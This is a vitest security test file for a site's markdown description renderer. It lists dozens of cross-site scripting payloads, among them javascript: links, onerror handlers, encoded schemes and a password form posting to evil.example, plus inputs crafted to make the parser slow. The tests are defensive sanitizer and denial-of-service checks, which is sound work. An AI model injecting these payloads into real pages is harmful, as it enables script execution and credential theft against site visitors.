import { getLaboratory, saveLaboratory } from '@vitrine/contract/communities.ts';
import { getHealth } from '@vitrine/contract/health.ts';
import { describe, expect, test } from 'vitest';
import { laboratoryForm, laboratoryRow, makeLaboratory, withoutDemonstration } from '../testing/laboratories.ts';
import { signedIn } from '../testing/people.ts';
import { startSite } from '../testing/site.ts';

const site = await startSite(withoutDemonstration);
const { platform } = site;
const person = await signedIn(platform);

/** What people have used elsewhere to run a script in the page of another. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<style>@import "https://evil.example"</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](<javascript:alert(1)>)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](https://a.example" onmouseover="alert(1))',
  '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example/`"onclick=alert(1)`)',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```"><img src=x onerror=alert(1)>\n```',
  '```js" onclick="alert(1)\n```',
  '| <img src=x onerror=alert(1)> |\n|-|\n| x |',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  'https://a.example/"onmouseover="alert(1)',
  'www.a.example/<script>alert(1)</script>',
  'a@b.example"><script>alert(1)</script>',
  '- [ ] <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<h1 onclick=alert(1)>x</h1>',
  '<x\u000by onclick=alert(1)>',
];

/** All that our renderer writes. Everything else in the result must be text. */
const harmless =
  /<\/?(?:p|em|strong|del|code|pre|blockquote|ul|li|hr \/|br \/|h[3-6]|table|thead|tbody|tr|td|th)>|<\/a>|<\/?ol(?: start="\d+")?>|<div class="table-scroll" role="group" aria-label="Table" tabindex="0">|<\/div>|<t[hd] align="(?:left|right|center)">|<code class="language-[^"<>]*">|<input type="checkbox" disabled=""(?: checked="")? ?\/?>|<a href="(?:(?:https?:|mailto:|\/|#)[^"<>]*|[^":<>]*)"(?: title="[^"<>]*")?(?: rel="noopener noreferrer")?(?: title="[^"<>]*")?>/g;

describe('a description keeps nothing that could act:', () => {
  test.each(hostile)('%j', async (description) => {
    const { id, idf } = await makeLaboratory(site, person, { description });
    const { data } = await site.call(getLaboratory, { idf });
    expect(data.descriptionHtml.replaceAll(harmless, '')).not.toMatch(/[<>]/);
    expect(data.descriptionHtml).not.toMatch(/(?:href|src)="\s*(?:javascript|vbscript|data)/i);
    expect(data.descriptionHtml).toBe((await laboratoryRow(platform, id)).description_html);
    expect(data.description).toBe(description);
  });

  test('the test itself would see it', () => {
    const leaks = ['<img src="x">', '<a href="javascript:x">', '<p onclick="x">', '<a href="/" onclick="x">'];
    expect(leaks.filter((leak) => !/[<>]/.test(leak.replaceAll(harmless, '')))).toEqual([]);
  });

  test('a character that no database keeps is refused, not broken on', async () => {
    const answer = await site.call(saveLaboratory, laboratoryForm({ description: 'a\u0000b' }), person);
    expect(answer.status).toBe(400);
  });
});

/** Each 20,000 characters that need ten seconds and more. */
const slow = ['a*_'.repeat(6666), '*_'.repeat(10_000)];

describe('a description that is made to be slow', () => {
  test.each(slow.map((text) => [text.slice(0, 6), text]))(
    '(%j …) is refused by its field, while others are answered',
    async (_, description) => {
      const order: string[] = [];
      const refused = site.call(saveLaboratory, laboratoryForm({ description }), person).then((answer) => {
        order.push('refused');
        return answer;
      });
      expect((await site.call(getHealth)).status).toBe(200);
      order.push('answered');
      const { status, data } = await refused;
      expect(status).toBe(422);
      expect(data).toEqual({ problems: [{ path: 'description', message: 'Please make this text simpler' }] });
      expect(order).toEqual(['answered', 'refused']);
      expect((await site.call(saveLaboratory, laboratoryForm({ description: 'short' }), person)).status).toBe(200);
    },
  );

  test('is not saved over the one before', async () => {
    const { id, revision } = await makeLaboratory(site, person, { description: 'before' });
    const change = laboratoryForm({ id, revision, description: slow[0] });
    expect((await site.call(saveLaboratory, change, person)).status).toBe(422);
    expect(await laboratoryRow(platform, id)).toMatchObject({ description: 'before', revision: 1 });
  });
});
